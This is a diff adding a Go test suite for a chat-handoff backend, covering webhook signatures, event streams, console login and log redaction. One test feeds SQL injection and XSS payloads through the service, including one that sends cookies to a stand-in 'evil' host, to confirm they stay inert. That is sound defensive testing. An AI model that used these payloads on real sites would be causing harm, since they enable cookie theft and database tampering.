@@ -1,0 +1,572 @@
+package backend
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/lotse-chat/lotse/handoff"
+)
+
+const (
+	testSecret = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
+	testToken  = "agent-token-for-tests"
+)
+
+// syncBuffer is a log sink safe for concurrent handlers.
+type syncBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (s *syncBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+
+func (s *syncBuffer) String() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.String()
+}
+
+type testServer struct {
+	*Server
+	URL  string
+	logs *syncBuffer
+	http *http.Client
+}
+
+// newTestServer runs a Server on a real SQLite file behind a real HTTP
+// listener, logging at debug level into a buffer.
+func newTestServer(t *testing.T) *testServer {
+	t.Helper()
+	logs := &syncBuffer{}
+	s, err := New(Config{
+		SQLitePath: filepath.Join(t.TempDir(), "lotse.db"),
+		Secret:     testSecret,
+		AgentToken: testToken,
+		Logger:     slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
+		Heartbeat:  50 * time.Millisecond,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	hs := httptest.NewServer(s.Handler())
+	t.Cleanup(func() {
+		hs.CloseClientConnections()
+		hs.Close()
+		s.Close()
+	})
+	return &testServer{Server: s, URL: hs.URL, logs: logs, http: hs.Client()}
+}
+
+// post sends body to /v1/inbox signed at time at with secret.
+func (ts *testServer) post(t *testing.T, body []byte, secret string, at time.Time) (int, map[string]any) {
+	t.Helper()
+	req, _ := http.NewRequest("POST", ts.URL+"/v1/inbox", bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	for k, v := range handoff.Headers(handoff.SecretKey(secret), "msg_"+strconv.FormatInt(at.UnixNano(), 36), at, body) {
+		req.Header.Set(k, v)
+	}
+	return ts.do(t, req)
+}
+
+func (ts *testServer) do(t *testing.T, req *http.Request) (int, map[string]any) {
+	t.Helper()
+	res, err := ts.http.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer res.Body.Close()
+	var v map[string]any
+	data, _ := io.ReadAll(res.Body)
+	if err := json.Unmarshal(data, &v); err != nil {
+		t.Fatalf("%s %s: %d with non-JSON body %q", req.Method, req.URL.Path, res.StatusCode, data)
+	}
+	return res.StatusCode, v
+}
+
+func (ts *testServer) handoff(t *testing.T, h handoff.Handoff) map[string]any {
+	t.Helper()
+	body, _ := json.Marshal(h)
+	code, v := ts.post(t, body, testSecret, time.Now())
+	if code != 200 {
+		t.Fatalf("handoff: %d %v", code, v)
+	}
+	return v
+}
+
+// console calls the console API with the bearer token.
+func (ts *testServer) console(t *testing.T, method, path string, body any) (int, map[string]any) {
+	t.Helper()
+	var r io.Reader
+	if body != nil {
+		b, _ := json.Marshal(body)
+		r = bytes.NewReader(b)
+	}
+	req, _ := http.NewRequest(method, ts.URL+"/console/api/"+path, r)
+	req.Header.Set("Authorization", "Bearer "+testToken)
+	if body != nil {
+		req.Header.Set("Content-Type", "application/json")
+	}
+	return ts.do(t, req)
+}
+
+func sample(id string, texts ...string) handoff.Handoff {
+	h := handoff.Handoff{ConversationID: id, Bot: "demo", Reason: "out_of_scope", Intent: "", Lang: "en"}
+	for i, text := range texts {
+		h.Messages = append(h.Messages, handoff.Message{ID: fmt.Sprintf("%s-m%d", id, i), Role: "visitor", Text: text, TS: 1})
+	}
+	return h
+}
+
+func TestHealth(t *testing.T) {
+	ts := newTestServer(t)
+	req, _ := http.NewRequest("GET", ts.URL+"/v1/health", nil)
+	if code, v := ts.do(t, req); code != 200 || v["status"] != "ok" {
+		t.Errorf("health = %d %v", code, v)
+	}
+}
+
+func TestInboxRefuses(t *testing.T) {
+	ts := newTestServer(t)
+	good, _ := json.Marshal(sample("c1", "hello"))
+	tests := []struct {
+		name    string
+		body    []byte
+		secret  string
+		at      time.Time
+		headers bool
+		code    int
+		errHas  string
+	}{
+		{"wrong secret", good, "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAA", time.Now(), true, 401, "signature"},
+		{"replayed old timestamp", good, testSecret, time.Now().Add(-6 * time.Minute), true, 401, "5 minutes"},
+		{"from the future", good, testSecret, time.Now().Add(6 * time.Minute), true, 401, "5 minutes"},
+		{"no signature headers", good, testSecret, time.Now(), false, 401, "missing"},
+		{"oversized body", bytes.Repeat([]byte(" "), 65<<10), testSecret, time.Now(), true, 413, "larger than"},
+		{"not JSON", []byte(`{"conversation_id": `), testSecret, time.Now(), true, 400, "syntax error"},
+		{"wrong type", []byte(`{"conversation_id": 5}`), testSecret, time.Now(), true, 400, "conversation_id"},
+		{"bad conversation id", []byte(`{"conversation_id":"a/b","bot":"d","messages":[{"id":"m","role":"visitor","text":"x"}]}`), testSecret, time.Now(), true, 400, "conversation_id"},
+		{"no messages", []byte(`{"conversation_id":"c2","bot":"d","messages":[]}`), testSecret, time.Now(), true, 400, "messages"},
+		{"agent role from edge", []byte(`{"conversation_id":"c2","bot":"d","messages":[{"id":"m","role":"agent","text":"x"}]}`), testSecret, time.Now(), true, 400, "role"},
+		{"NUL in text", []byte(`{"conversation_id":"c2","bot":"d","messages":[{"id":"m","role":"visitor","text":"a\u0000b"}]}`), testSecret, time.Now(), true, 400, "NUL"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var code int
+			var v map[string]any
+			if tt.headers {
+				code, v = ts.post(t, tt.body, tt.secret, tt.at)
+			} else {
+				req, _ := http.NewRequest("POST", ts.URL+"/v1/inbox", bytes.NewReader(tt.body))
+				code, v = ts.do(t, req)
+			}
+			msg, _ := v["error"].(string)
+			if code != tt.code || !strings.Contains(msg, tt.errHas) {
+				t.Errorf("got %d %q, want %d with error containing %q", code, msg, tt.code, tt.errHas)
+			}
+		})
+	}
+	// Nothing refused was stored.
+	if _, err := ts.Store().Conversation(context.Background(), "c1"); err == nil {
+		t.Error("a refused handoff created conversation c1")
+	}
+}
+
+func TestInboxIdempotent(t *testing.T) {
+	ts := newTestServer(t)
+	h := sample("c1", "hello", "anyone there?")
+	first := ts.handoff(t, h)
+	second := ts.handoff(t, h) // the edge retrying after a lost answer
+	if first["stored"] != 2.0 || second["stored"] != 0.0 || second["last_seq"] != 2.0 {
+		t.Errorf("acks = %v then %v; want stored 2 then 0, last_seq 2", first, second)
+	}
+	ms, err := ts.Store().Messages(context.Background(), "c1", 0, 100)
+	if err != nil || len(ms) != 2 {
+		t.Errorf("stored %d messages (%v), want 2", len(ms), err)
+	}
+}
+
+func TestAcceptInProcess(t *testing.T) {
+	ts := newTestServer(t)
+	ack, err := ts.Accept(context.Background(), sample("c1", "hi"))
+	if err != nil || ack.Stored != 1 || ack.LastSeq != 1 {
+		t.Fatalf("Accept = %+v, %v", ack, err)
+	}
+	if _, err := ts.Accept(context.Background(), sample("bad id!", "hi")); err == nil {
+		t.Error("Accept took an invalid conversation id")
+	}
+}
+
+func TestEventsUnknownConversation(t *testing.T) {
+	ts := newTestServer(t)
+	for _, accept := range []string{"", "text/event-stream"} {
+		req, _ := http.NewRequest("GET", ts.URL+"/v1/conversations/nope/events?wait=0", nil)
+		req.Header.Set("Accept", accept)
+		if code, v := ts.do(t, req); code != 404 || v["error"] == nil {
+			t.Errorf("Accept %q: %d %v, want 404 JSON error", accept, code, v)
+		}
+	}
+}
+
+func (ts *testServer) poll(t *testing.T, id string, after int64, wait int) (int, Events) {
+	t.Helper()
+	res, err := ts.http.Get(fmt.Sprintf("%s/v1/conversations/%s/events?after=%d&wait=%d", ts.URL, id, after, wait))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer res.Body.Close()
+	var ev Events
+	if err := json.NewDecoder(res.Body).Decode(&ev); err != nil {
+		t.Fatal(err)
+	}
+	return res.StatusCode, ev
+}
+
+func TestLongPoll(t *testing.T) {
+	ts := newTestServer(t)
+	ts.handoff(t, sample("c1", "one", "two", "three"))
+	code, ev := ts.poll(t, "c1", 1, 0)
+	if code != 200 || len(ev.Events) != 2 || ev.Events[0].Seq != 2 || ev.Events[1].Text != "three" || ev.State != "pending" {
+		t.Fatalf("poll after 1 = %d %+v", code, ev)
+	}
+	if _, ev := ts.poll(t, "c1", 3, 0); len(ev.Events) != 0 {
+		t.Errorf("poll after last = %+v, want no events", ev)
+	}
+}
+
+// TestLongPollWakesOnAgentReply parks a long-poll for 50 s and checks that
+// an agent's reply ends it with that reply: a poll that timed out instead
+// would carry no events.
+func TestLongPollWakesOnAgentReply(t *testing.T) {
+	ts := newTestServer(t)
+	ts.handoff(t, sample("c1", "help"))
+	got := make(chan Events, 1)
+	go func() {
+		_, ev := ts.poll(t, "c1", 1, 50)
+		got <- ev
+	}()
+	// Reply once the poll is parked; replying earlier is also fine, because
+	// the poll would then find the reply at once.
+	time.Sleep(20 * time.Millisecond)
+	if code, v := ts.console(t, "POST", "conversations/c1/reply", map[string]string{"text": "Hello, I am Anna"}); code != 200 {
+		t.Fatalf("reply: %d %v", code, v)
+	}
+	ev := <-got
+	if len(ev.Events) != 1 || ev.Events[0].Role != "agent" || ev.Events[0].Text != "Hello, I am Anna" || ev.Events[0].Seq != 2 || ev.State != "open" {
+		t.Errorf("woken poll = %+v", ev)
+	}
+}
+
+type sse struct {
+	id, event, data string
+}
+
+// readSSE parses events from r until n message or state events arrived.
+func readSSE(t *testing.T, r *bufio.Reader, n int) []sse {
+	t.Helper()
+	var out []sse
+	var cur sse
+	for len(out) < n {
+		line, err := r.ReadString('\n')
+		if err != nil {
+			t.Fatalf("stream ended after %d events: %v", len(out), err)
+		}
+		line = strings.TrimRight(line, "\n")
+		switch {
+		case line == "":
+			if cur.event != "" {
+				out = append(out, cur)
+			}
+			cur = sse{}
+		case strings.HasPrefix(line, "id: "):
+			cur.id = line[4:]
+		case strings.HasPrefix(line, "event: "):
+			cur.event = line[7:]
+		case strings.HasPrefix(line, "data: "):
+			cur.data = line[6:]
+		}
+	}
+	return out
+}
+
+func TestSSEResumeAndLive(t *testing.T) {
+	ts := newTestServer(t)
+	ts.handoff(t, sample("c1", "one", "two", "three"))
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	req, _ := http.NewRequestWithContext(ctx, "GET", ts.URL+"/v1/conversations/c1/events", nil)
+	req.Header.Set("Accept", "text/event-stream")
+	req.Header.Set("Last-Event-ID", "1") // the browser reconnecting after seq 1
+	res, err := ts.http.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer res.Body.Close()
+	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/event-stream") {
+		t.Fatalf("Content-Type %q", ct)
+	}
+	r := bufio.NewReader(res.Body)
+	evs := readSSE(t, r, 3)
+	want := []sse{
+		{"2", "message", `{"seq":2,"id":"c1-m1","role":"visitor","text":"two","ts":1}`},
+		{"3", "message", `{"seq":3,"id":"c1-m2","role":"visitor","text":"three","ts":1}`},
+		{"", "state", `{"state":"pending"}`},
+	}
+	for i := range want {
+		if evs[i] != want[i] {
+			t.Errorf("event %d = %+v, want %+v", i, evs[i], want[i])
+		}
+	}
+	// An agent's reply is pushed to the open stream, with the state change.
+	if code, v := ts.console(t, "POST", "conversations/c1/reply", map[string]string{"id": "a1", "text": "Hi!"}); code != 200 {
+		t.Fatalf("reply: %d %v", code, v)
+	}
+	evs = readSSE(t, r, 2)
+	if evs[0].id != "4" || !strings.Contains(evs[0].data, `"role":"agent"`) || evs[1].data != `{"state":"open"}` {
+		t.Errorf("live events = %+v", evs)
+	}
+}
+
+func TestConsoleRefusesUnauthenticated(t *testing.T) {
+	ts := newTestServer(t)
+	ts.handoff(t, sample("c1", "hi"))
+	paths := []struct{ method, path string }{
+		{"GET", "conversations"},
+		{"GET", "conversations/c1"},
+		{"POST", "conversations/c1/reply"},
+		{"POST", "conversations/c1/assign"},
+		{"POST", "conversations/c1/resolve"},
+		{"GET", "unanswered"},
+		{"GET", "me"},
+	}
+	for _, p := range paths {
+		for _, auth := range []string{"", "Bearer wrong-token", "Bearer ", "Basic " + testToken} {
+			req, _ := http.NewRequest(p.method, ts.URL+"/console/api/"+p.path, strings.NewReader(`{"text":"x"}`))
+			req.Header.Set("Content-Type", "application/json")
+			if auth != "" {
+				req.Header.Set("Authorization", auth)
+			}
+			req.AddCookie(&http.Cookie{Name: sessionCookie, Value: "forged"})
+			if code, v := ts.do(t, req); code != 401 || v["error"] == nil {
+				t.Errorf("%s %s with %q: %d %v, want 401", p.method, p.path, auth, code, v)
+			}
+		}
+	}
+	ms, _ := ts.Store().Messages(context.Background(), "c1", 0, 10)
+	if len(ms) != 1 {
+		t.Errorf("unauthenticated calls changed the transcript: %+v", ms)
+	}
+}
+
+func TestConsolePostNeedsJSON(t *testing.T) {
+	ts := newTestServer(t)
+	ts.handoff(t, sample("c1", "hi"))
+	// What a cross-site form could send.
+	req, _ := http.NewRequest("POST", ts.URL+"/console/api/conversations/c1/resolve", strings.NewReader("a=b"))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	req.Header.Set("Authorization", "Bearer "+testToken)
+	if code, _ := ts.do(t, req); code != 415 {
+		t.Errorf("form POST: %d, want 415", code)
+	}
+}
+
+func TestConsoleLogin(t *testing.T) {
+	for _, tls := range []bool{false, true} {
+		t.Run(fmt.Sprint("tls=", tls), func(t *testing.T) {
+			s, err := New(Config{SQLitePath: filepath.Join(t.TempDir(), "x.db"), Secret: testSecret, AgentToken: testToken,
+				Logger: slog.New(slog.DiscardHandler)})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer s.Close()
+			hs := httptest.NewUnstartedServer(s.Handler())
+			if tls {
+				hs.StartTLS()
+			} else {
+				hs.Start()
+			}
+			defer hs.Close()
+			c := hs.Client()
+			login := func(pw string) *http.Response {
+				res, err := c.Post(hs.URL+"/console/api/login", "application/json", strings.NewReader(`{"password":"`+pw+`","name":"Anna"}`))
+				if err != nil {
+					t.Fatal(err)
+				}
+				res.Body.Close()
+				return res
+			}
+			if res := login("wrong"); res.StatusCode != 401 || len(res.Cookies()) != 0 {
+				t.Errorf("wrong password: %d, cookies %v", res.StatusCode, res.Cookies())
+			}
+			res := login(testToken)
+			if res.StatusCode != 200 || len(res.Cookies()) != 1 {
+				t.Fatalf("login: %d, cookies %v", res.StatusCode, res.Cookies())
+			}
+			ck := res.Cookies()[0]
+			if !ck.HttpOnly || ck.SameSite != http.SameSiteStrictMode || ck.Secure != tls || ck.Path != "/console" {
+				t.Errorf("cookie %+v: want HttpOnly, SameSite=Strict, Secure=%v, Path /console", ck, tls)
+			}
+			req, _ := http.NewRequest("GET", hs.URL+"/console/api/me", nil)
+			req.AddCookie(ck)
+			res, err = c.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var me map[string]string
+			json.NewDecoder(res.Body).Decode(&me)
+			res.Body.Close()
+			if res.StatusCode != 200 || me["agent"] != "Anna" {
+				t.Errorf("me with cookie: %d %v", res.StatusCode, me)
+			}
+			req, _ = http.NewRequest("POST", hs.URL+"/console/api/logout", strings.NewReader("{}"))
+			req.Header.Set("Content-Type", "application/json")
+			req.AddCookie(ck)
+			if res, err := c.Do(req); err != nil || res.StatusCode != 200 {
+				t.Fatalf("logout: %v %v", res, err)
+			}
+			req, _ = http.NewRequest("GET", hs.URL+"/console/api/me", nil)
+			req.AddCookie(ck)
+			if res, _ := c.Do(req); res.StatusCode != 401 {
+				t.Errorf("me after logout: %d, want 401", res.StatusCode)
+			}
+		})
+	}
+}
+
+// TestPayloadsVerbatimAndInert sends SQL and markup through the inbox and
+// the console and expects them back byte for byte, with the console page
+// unable to run them.
+func TestPayloadsVerbatimAndInert(t *testing.T) {
+	ts := newTestServer(t)
+	payloads := []string{
+		`'; DROP TABLE messages; --`,
+		`" OR 1=1 --`,
+		`<script>alert(document.cookie)</script>`,
+		`<img src=x onerror="fetch('//evil/'+document.cookie)">`,
+		`javascript:alert(1)`,
+	}
+	ts.handoff(t, sample("c1", payloads...))
+	if code, _ := ts.console(t, "POST", "conversations/c1/reply", map[string]string{"text": payloads[3]}); code != 200 {
+		t.Fatalf("reply with markup: %d", code)
+	}
+	code, v := ts.console(t, "GET", "conversations/c1", nil)
+	if code != 200 {
+		t.Fatalf("transcript: %d", code)
+	}
+	msgs := v["messages"].([]any)
+	want := append(payloads, payloads[3])
+	if len(msgs) != len(want) {
+		t.Fatalf("transcript has %d messages, want %d", len(msgs), len(want))
+	}
+	for i, m := range msgs {
+		if got := m.(map[string]any)["text"]; got != want[i] {
+			t.Errorf("message %d = %q, want %q", i, got, want[i])
+		}
+	}
+	if _, err := ts.Store().Conversation(context.Background(), "c1"); err != nil {
+		t.Errorf("tables damaged: %v", err)
+	}
+	// The page forbids inline script and never turns text into markup.
+	res, err := ts.http.Get(ts.URL + "/console")
+	if err != nil {
+		t.Fatal(err)
+	}
+	res.Body.Close()
+	if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
+		t.Errorf("console CSP %q", csp)
+	}
+	js, _ := consoleFiles.ReadFile("console/console.js")
+	for _, sink := range []string{"innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("} {
+		if bytes.Contains(js, []byte(sink)) {
+			t.Errorf("console.js uses %s", sink)
+		}
+	}
+}
+
+func TestStateTransitionsHTTP(t *testing.T) {
+	ts := newTestServer(t)
+	ts.handoff(t, sample("c1", "hi"))
+	state := func() string {
+		_, ev := ts.poll(t, "c1", 0, 0)
+		return string(ev.State)
+	}
+	if s := state(); s != "pending" {
+		t.Errorf("after handoff: %s", s)
+	}
+	if code, v := ts.console(t, "GET", "conversations?state=pending", nil); code != 200 || len(v["conversations"].([]any)) != 1 {
+		t.Errorf("pending queue: %d %v", code, v)
+	}
+	if code, v := ts.console(t, "POST", "conversations/c1/assign", map[string]string{}); code != 200 || state() != "open" {
+		t.Errorf("assign: %d %v, state %s", code, v, state())
+	}
+	if code, _ := ts.console(t, "POST", "conversations/c1/resolve", map[string]string{}); code != 200 || state() != "resolved" {
+		t.Errorf("resolve: %d, state %s", code, state())
+	}
+	if code, _ := ts.console(t, "POST", "conversations/c1/reply", map[string]string{"text": "late"}); code != 409 {
+		t.Errorf("reply to resolved: %d, want 409", code)
+	}
+	if code, _ := ts.console(t, "POST", "conversations/nope/resolve", map[string]string{}); code != 404 {
+		t.Errorf("resolve unknown: %d, want 404", code)
+	}
+	if code, _ := ts.console(t, "GET", "conversations?state=weird", nil); code != 400 {
+		t.Errorf("bad state filter: %d, want 400", code)
+	}
+}
+
+// TestLogsCarryNoPersonalData posts personal data through every path and
+// searches the captured debug-level log for it.
+func TestLogsCarryNoPersonalData(t *testing.T) {
+	ts := newTestServer(t)
+	secrets := []string{"DE89370400440532013000", "anna.schmidt@example.com", "my secret question"}
+	h := sample("c1", "my IBAN is DE89370400440532013000", "write to anna.schmidt@example.com", "my secret question")
+	h.Reason = "personal_data"
+	ts.handoff(t, h)
+	ts.console(t, "POST", "conversations/c1/reply", map[string]string{"text": "I will mail anna.schmidt@example.com"})
+	body, _ := json.Marshal(sample("c2", "DE89370400440532013000"))
+	ts.post(t, body, "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAA", time.Now()) // refused
+	ts.post(t, []byte(`{"conversation_id":"c3","bot":"d","messages":[{"id":"m","role":"agent","text":"anna.schmidt@example.com"}]}`), testSecret, time.Now())
+	logs := ts.logs.String()
+	if !strings.Contains(logs, "handoff stored") {
+		t.Fatalf("log lacks the handoff line, so this test proves nothing:\n%s", logs)
+	}
+	for _, s := range append(secrets, "c1") { // not even the conversation ID
+		if strings.Contains(logs, s) {
+			t.Errorf("log contains %q:\n%s", s, logs)
+		}
+	}
+}
+
+func TestUnansweredRedacted(t *testing.T) {
+	ts := newTestServer(t)
+	ts.handoff(t, sample("c1", "what is the weather in Berlin"))
+	ts.handoff(t, sample("c2", "hello", "What's the weather in Berlin?"))
+	ts.handoff(t, sample("c3", "send it to anna.schmidt@example.com"))
+	code, v := ts.console(t, "GET", "unanswered", nil)
+	if code != 200 || v["questions"] != 3.0 {
+		t.Fatalf("unanswered: %d %v", code, v)
+	}
+	out, _ := json.Marshal(v)
+	if bytes.Contains(out, []byte("anna.schmidt")) || !bytes.Contains(out, []byte("[EMAIL]")) {
+		t.Errorf("unanswered not redacted: %s", out)
+	}
+	g := v["groups"].([]any)[0].(map[string]any)
+	if g["count"] != 2.0 {
+		t.Errorf("first group = %v, want the two weather questions", g)
+	}
+}
